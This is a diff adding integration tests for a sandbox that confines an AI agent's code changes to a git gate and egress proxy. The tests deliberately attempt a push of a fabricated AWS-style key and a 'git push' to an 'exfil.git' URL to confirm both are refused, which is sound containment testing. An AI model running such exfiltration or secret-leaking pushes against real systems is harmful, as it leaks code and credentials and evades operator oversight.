@@ -1,0 +1,83 @@
+"""Code leaves only through the git gate: a `cwd=` workspace, end to end in a real bottle.
+
+The host repository is never mounted writable into the agent: the agent works
+on a clone from the gate, and its pushes land in the bottle's outbox, which the
+operator fetches from.
+"""
+from __future__ import annotations
+
+import subprocess
+
+import pytest
+
+from tests.integration.bottlekit import running_bottle
+
+
+def git(cwd, *args: str) -> str:
+    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout
+
+
+@pytest.fixture(scope="module")
+def repo(tmp_path_factory):
+    path = tmp_path_factory.mktemp("hostrepo") / "project"
+    path.mkdir()
+    git(path, "init", "-q", "-b", "main")
+    git(path, "config", "user.email", "op@example.test")
+    git(path, "config", "user.name", "Operator")
+    (path / "README.md").write_text("hello\n")
+    git(path, "add", "README.md")
+    git(path, "commit", "-qm", "initial")
+    return path
+
+
+@pytest.fixture(scope="module")
+def bottle(tmp_path_factory, docker_client, test_run_id, repo):
+    with running_bottle(tmp_path_factory.mktemp("ws"), docker_client, test_run_id, "ws", workspace=repo) as b:
+        yield b
+
+
+def in_clone(bottle, script: str) -> tuple[int, str]:
+    return bottle.exec(f"cd /workspace/project && {script} 2>&1")
+
+
+def test_workspace_is_a_clone_from_the_gate(bottle):
+    code, out = in_clone(bottle, "cat README.md && git remote get-url origin")
+    assert code == 0, out
+    assert "hello" in out and "git://git-gate/workspace.git" in out
+    code, out = bottle.exec("grep -c project /proc/self/mountinfo || true")
+    assert out.strip() == "0", "the host repository must not be mounted into the agent"
+
+
+def test_agent_push_reaches_the_outbox_not_the_host_repo(bottle, repo):
+    code, out = in_clone(bottle, "git checkout -qb agent/feature && echo work > feature.txt && git add feature.txt "
+                                 "&& git commit -qm 'agent work' && git push -q origin agent/feature")
+    assert code == 0, out
+    assert "agent/feature" not in git(repo, "branch", "--list")
+    outbox = bottle.home / f"state/{bottle.agent}/outbox/workspace.git"
+    git(repo, "fetch", "-q", str(outbox), "+refs/heads/*:refs/remotes/bottle/*")
+    assert "agent work" in git(repo, "log", "--oneline", "refs/remotes/bottle/agent/feature")
+
+
+def test_push_with_a_secret_is_refused_naming_file_and_line(bottle):
+    key_id = "AKIA" + "QWERTYUIOPASDFGH"  # built here so the repository holds no key-shaped literal
+    code, out = in_clone(bottle, f"git checkout -qb agent/leak && printf 'a = 1\\naws = \"{key_id}\"\\n' > cfg.py "
+                                 "&& git add cfg.py && git commit -qm leak && git push origin agent/leak")
+    assert code != 0
+    assert "cfg.py" in out and "line 2" in out, out
+    outbox = bottle.home / f"state/{bottle.agent}/outbox/workspace.git"
+    assert "agent/leak" not in git(outbox, "branch", "--list")
+
+
+def test_force_push_to_the_protected_branch_is_refused(bottle):
+    code, out = in_clone(bottle, "git checkout -q main && git commit -q --amend -m rewritten "
+                                 "&& git push --force origin main")
+    assert code != 0
+    assert "main" in out and ("protected" in out or "force" in out), out
+
+
+def test_git_push_over_https_is_refused_by_the_egress_proxy(bottle):
+    before = len(bottle.fake_requests())
+    code, out = in_clone(bottle, "git push https://api.anthropic.com/v1/exfil.git HEAD:refs/heads/x")
+    assert code != 0
+    assert "403" in out or "git push" in out.lower(), out
+    assert not [r for r in bottle.fake_requests()[before:] if "receive-pack" in r["path"]]
